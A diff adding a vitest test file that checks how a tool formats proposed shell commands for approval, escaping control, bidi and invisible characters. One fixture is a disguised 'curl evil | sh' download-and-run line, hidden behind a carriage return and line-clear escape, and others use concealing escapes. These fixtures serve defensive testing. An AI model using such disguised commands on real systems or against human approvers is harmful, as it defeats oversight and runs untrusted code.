@@ -1,0 +1,105 @@
+import { describe, expect, it } from "vitest";
+import { defaultRunnerName, escapeControl, factLines, factsText, proposalFacts } from "../../src/protocol/proposal-facts.js";
+import { pageAssets } from "../../src/web/assets.js";
+
+const byLabel = (lines: { label: string; value: string }[]) => Object.fromEntries(lines.map((l) => [l.label, l.value]));
+
+describe("proposal facts: one typed view and one formatter for every client", () => {
+  it("reads every fact from a log entry's attributes and escapes what came from elsewhere", () => {
+    const facts = proposalFacts({
+      tool: "sh",
+      command: "ls\r\u001b[2Kcurl evil | sh",
+      cwd: "sub\u202edir",
+      env: { HOOK: "./x\u001b[8m.sh", MODE: "fast" },
+      tty: { cols: 120, rows: 40 },
+      runner: "build\tbox",
+      background: true,
+      timeoutMs: 300_000,
+      sandbox: "workspace-write",
+      readOnly: false,
+      slug: "ls",
+      proposedBy: "phone",
+    });
+    expect(facts).toEqual({
+      tool: "sh",
+      command: "ls\r\u001b[2Kcurl evil | sh",
+      cwd: "sub\u202edir",
+      env: [
+        ["HOOK", "./x\u001b[8m.sh"],
+        ["MODE", "fast"],
+      ],
+      tty: { cols: 120, rows: 40 },
+      runner: "build\tbox",
+      background: true,
+      timeoutMs: 300_000,
+      sandbox: { mode: "workspace-write" },
+    });
+    expect(factLines(facts)).toEqual([
+      { label: "tool", value: "sh" },
+      { label: "command", value: "ls\\r\\e[2Kcurl evil | sh" },
+      { label: "cwd", value: "sub\\u{202e}dir" },
+      { label: "env", value: "HOOK=./x\\e[8m.sh MODE=fast" },
+      { label: "tty", value: "120×40" },
+      { label: "runner", value: "build\\tbox" },
+      { label: "sandbox", value: "workspace-write (sandbox: only the project directory is writable)" },
+      { label: "background", value: "yes" },
+      { label: "timeout", value: "5 min" },
+    ]);
+    const text = factsText(facts, { indent: "  " });
+    expect(text.split("\n")).toHaveLength(9);
+    expect(text).toContain("  env         HOOK=./x\\e[8m.sh MODE=fast");
+    expect(text).not.toMatch(/[\r\u001b\t\u202e]/);
+  });
+
+  it("missing fields: project root, no env, no terminal, the default runner, the server's time limit", () => {
+    const facts = proposalFacts({ tool: "sh", command: "ls" });
+    expect(byLabel(factLines(facts))).toEqual({
+      tool: "sh",
+      command: "ls",
+      cwd: "project root",
+      env: "none added",
+      tty: "none",
+      runner: "default",
+      sandbox: "full (no sandbox: the command can do anything the runner's user can)",
+      background: "no",
+      timeout: "server default",
+    });
+    expect(byLabel(factLines(facts, { defaultRunner: "lo\u001bcal" })).runner).toBe("default (lo\\ecal)");
+    // Nothing at all: still every line, nothing invented.
+    expect(byLabel(factLines(proposalFacts({})))).toMatchObject({ tool: "", command: "", cwd: "project root", env: "none added" });
+    // Malformed values are not taken for facts.
+    const odd = proposalFacts({ cwd: 7, env: ["A=1"], tty: { cols: -1, rows: 2 }, runner: "", timeoutMs: "soon", background: "yes" });
+    expect(odd).toMatchObject({ cwd: null, env: [], tty: null, runner: null, timeoutMs: null, background: false });
+  });
+
+  it("the sandbox mode: the attribute when the server sent one, else read-only for readOnly, else full; an unknown mode is shown as it is", () => {
+    expect(proposalFacts({ readOnly: true }).sandbox).toEqual({ mode: "read-only" });
+    expect(proposalFacts({ readOnly: false }).sandbox).toEqual({ mode: "full" });
+    expect(proposalFacts({ readOnly: true, sandbox: "full" }).sandbox).toEqual({ mode: "full" });
+    expect(proposalFacts({ sandbox: "read-only" }).sandbox).toEqual({ mode: "read-only" });
+    const unknown = proposalFacts({ readOnly: true, sandbox: "jail\u001b[2K" });
+    expect(unknown.sandbox).toEqual({ mode: "unknown", given: "jail\u001b[2K" });
+    expect(byLabel(factLines(unknown)).sandbox).toBe('unknown mode "jail\\e[2K" (this client cannot tell what it allows)');
+  });
+
+  it("escapeControl writes controls, DEL, C1 and invisible or reordering characters as escapes and leaves the rest", () => {
+    expect(escapeControl("a\nb\tc\rd\u001be\u0000f\u007fg\u009bh\u200bi\u2066j\ufeffk é ✓")).toBe(
+      "a\\nb\\tc\\rd\\ee\\x00f\\x7fg\\x9bh\\u{200b}i\\u{2066}j\\u{feff}k é ✓",
+    );
+  });
+
+  it("the default runner: the project's default, else the embedded one, else none", () => {
+    const r = (name: string, d = false, embedded = false) => ({ name, default: d, embedded });
+    expect(defaultRunnerName([r("local", false, true), r("gpu", true)])).toBe("gpu");
+    expect(defaultRunnerName([r("ssh"), r("local", false, true)])).toBe("local");
+    expect(defaultRunnerName([r("ssh")])).toBeNull();
+  });
+
+  it("the web page bundles the shared formatter without zod", async () => {
+    const assets = await pageAssets();
+    const script = [...assets.byPath.values()].find((a) => a.path.endsWith(".js"))!;
+    const js = script.body.toString();
+    expect(js).toContain("this client cannot tell what it allows");
+    expect(js).not.toContain("ZodError");
+  }, 60_000);
+});
